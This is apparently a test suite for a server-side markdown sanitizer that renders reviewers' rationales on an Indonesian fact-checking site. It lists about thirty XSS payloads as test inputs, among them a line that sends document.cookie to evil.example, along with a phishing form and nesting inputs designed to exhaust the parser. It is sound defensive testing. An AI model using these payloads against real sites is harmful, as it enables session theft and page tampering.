// Rationales are rendered on the server and shown as HTML: only the allowed elements and attributes may
// come out, whatever a reviewer (or an attacker with a reviewer's account) types.
import { parseHTML } from "linkedom";
import { describe, expect, it } from "vitest";
import { limitNesting, rationaleTags, renderRationale } from "./markdown.server";

const allowedAttributes: Record<string, string[]> = { a: ["href", "rel", "target"], ol: ["start"] };

/** Every element and attribute of the output, checked against the allow-list. */
function audit(html: string) {
  const { document } = parseHTML(`<!doctype html><html><body>${html}</body></html>`);
  const problems: string[] = [];
  for (const element of document.body.querySelectorAll("*")) {
    const tag = element.tagName.toLowerCase();
    if (!(rationaleTags as readonly string[]).includes(tag)) problems.push(`element <${tag}>`);
    for (const { name, value } of element.attributes) {
      if (!(allowedAttributes[tag] ?? []).includes(name)) problems.push(`attribute ${name} on <${tag}>`);
      if (name === "href" && !/^(https?:\/\/|mailto:)/i.test(value)) problems.push(`href ${value}`);
    }
    if (tag === "a") {
      expect(element.getAttribute("rel")).toBe("noopener noreferrer nofollow");
      expect(element.getAttribute("target")).toBe("_blank");
    }
  }
  return { problems, document };
}

describe("renderRationale: hostile input", () => {
  it.each([
    ["script element", "<script>alert(1)</script>"],
    ["script inside a paragraph", "Lihat ini <script>fetch('//evil.example?c='+document.cookie)</script> ya"],
    ["image with onerror", "<img src=x onerror=alert(1)>"],
    ["svg with onload", "<svg onload=alert(1)><circle /></svg>"],
    ["iframe", '<iframe src="https://evil.example"></iframe>'],
    ["style element", "<style>body { display: none }</style>"],
    ["style attribute", '<p style="position:fixed;top:0">overlay</p>'],
    ["event handler on an allowed element", '<strong onmouseover="alert(1)">hover</strong>'],
    ["raw link with javascript:", '<a href="javascript:alert(1)">click</a>'],
    ["markdown link with javascript:", "[click](javascript:alert(1))"],
    ["mixed case scheme", "[click](JaVaScRiPt:alert(1))"],
    ["entity-encoded scheme", "[click](&#106;avascript:alert(1))"],
    ["tab inside the scheme", "[click](java\tscript:alert(1))"],
    ["data: URL", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
    ["vbscript: URL", "[click](vbscript:msgbox(1))"],
    ["reference link to javascript:", "[click][x]\n\n[x]: javascript:alert(1)"],
    ["autolink with javascript:", "<javascript:alert(1)>"],
    ["protocol-relative link", "[click](//evil.example/x)"],
    ["markdown image", "![a chart](https://evil.example/pixel.png)"],
    ["image with javascript: source", "![x](javascript:alert(1))"],
    ["form and input", '<form action="https://evil.example"><input name="password"></form>'],
    ["object and embed", '<object data="x.swf"></object><embed src="x.swf">'],
    ["meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ["base element", '<base href="https://evil.example/">'],
    ["nested tag trick", "<scr<script>ipt>alert(1)</scr</script>ipt>"],
    ["html comment", "before <!-- <script>alert(1)</script> --> after"],
    ["link title breaking out", '[x](https://example.org "a" onclick="alert(1)")'],
    ["table markup", "| a | <img src=x onerror=alert(1)> |\n|---|---|\n| 1 | 2 |"],
    ["heading with html", "# <img src=x onerror=alert(1)> title"],
    ["math element", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"],
  ])("%s", (_name, source) => {
    const html = renderRationale(source);
    const { problems } = audit(html);
    expect(problems).toEqual([]);
    expect(html).not.toMatch(/<(script|img|iframe|svg|style|object|embed|form|input|meta|base|math)\b/i);
    expect(html).not.toMatch(/<[^>]*\son\w+\s*=/i); // no event handler inside any tag
  });
});

describe("renderRationale: what a reviewer writes", () => {
  it("keeps emphasis, lists, quotes, code and line breaks", () => {
    const html = renderRationale("**Keliru.** Data _BPS_ berbeda.\nBaris kedua.\n\n- satu\n- dua\n\n1. a\n2. b\n\n> kutipan\n\n`kode` dan\n\n```\nblok <b>\n```");
    expect(html).toContain("<strong>Keliru.</strong>");
    expect(html).toContain("<em>BPS</em>");
    expect(html).toContain("<br />");
    expect(html).toMatch(/<ul>\s*<li>satu<\/li>/);
    expect(html).toMatch(/<ol>\s*<li>a<\/li>/);
    expect(html).toMatch(/<blockquote>\s*<p>kutipan<\/p>/);
    expect(html).toContain("<code>kode</code>");
    expect(html).toContain("<pre><code>blok &lt;b&gt;");
    expect(audit(html).problems).toEqual([]);
  });

  it("opens links to the web and mail in a new tab, without referrer or opener", () => {
    const html = renderRationale("[BPS](https://www.bps.go.id/id/statistics-table?x=1&y=2), <mailto:redaksi@example.org> dan https://example.org/laporan");
    const { document } = audit(html);
    const links = [...document.querySelectorAll("a")].map((a) => a.getAttribute("href"));
    expect(links).toEqual(["https://www.bps.go.id/id/statistics-table?x=1&y=2", "mailto:redaksi@example.org", "https://example.org/laporan"]);
  });

  it("turns headings into h3/h4 and drops links it does not allow but keeps their text", () => {
    expect(renderRationale("# Besar\n\n## Sedang\n\n##### Kecil")).toBe("<h3>Besar</h3>\n<h3>Sedang</h3>\n<h4>Kecil</h4>");
    expect(renderRationale("[halaman lain](/claims/1) dan [skrip](javascript:alert(1))")).toBe("<p>halaman lain dan skrip</p>");
  });

  it("shows typed HTML as text instead of interpreting it", () => {
    expect(renderRationale('Unggahan itu memuat <a href="https://x.example">tautan</a>')).toBe(
      "<p>Unggahan itu memuat &lt;a href=\"https://x.example\"&gt;tautan&lt;/a&gt;</p>",
    );
  });

  it("renders nothing for an empty rationale", () => {
    expect(renderRationale("  \n ")).toBe("");
  });
});

describe("renderRationale: hostile shapes", () => {
  const lines = (count: number, line: (i: number) => string) => Array.from({ length: count }, (_, i) => line(i)).join("\n").slice(0, 20_000);

  // Found while testing: 10,000 nested quotes overflowed marked's stack, and 2,000 lines of ever deeper
  // quotes or indentation took seconds — on every read of the claim page.
  it.each([
    ["10,000 nested quotes on one line", "> ".repeat(10_000) + "x"],
    ["ever deeper quotes", lines(2000, (i) => ">".repeat(i) + " x")],
    ["ever deeper list indentation", lines(1000, (i) => " ".repeat(i * 2) + "- x")],
    ["ever deeper tabs", lines(1000, (i) => "\t".repeat(i) + "- x")],
    ["thousands of unclosed emphasis markers", "*a".repeat(10_000)],
    ["thousands of open brackets", "[".repeat(20_000)],
  ])("%s: renders in well under a second, without throwing", (_name, source) => {
    const started = performance.now();
    const html = renderRationale(source);
    expect(performance.now() - started).toBeLessThan(1500);
    expect(audit(html).problems).toEqual([]);
  });

  it("flattens only what is deeper than a rationale needs, and leaves fenced code alone", () => {
    expect(limitNesting("> > quote\n  - item\n      - nested")).toBe("> > quote\n  - item\n      - nested");
    expect(limitNesting(">>>>>>>>>>>> deep")).toBe(">>>>>>>> deep");
    expect(limitNesting(`${" ".repeat(40)}- far`)).toBe(`${" ".repeat(16)}- far`);
    const code = "```\n" + " ".repeat(40) + "indented code\n```";
    expect(limitNesting(code)).toBe(code);
  });
});
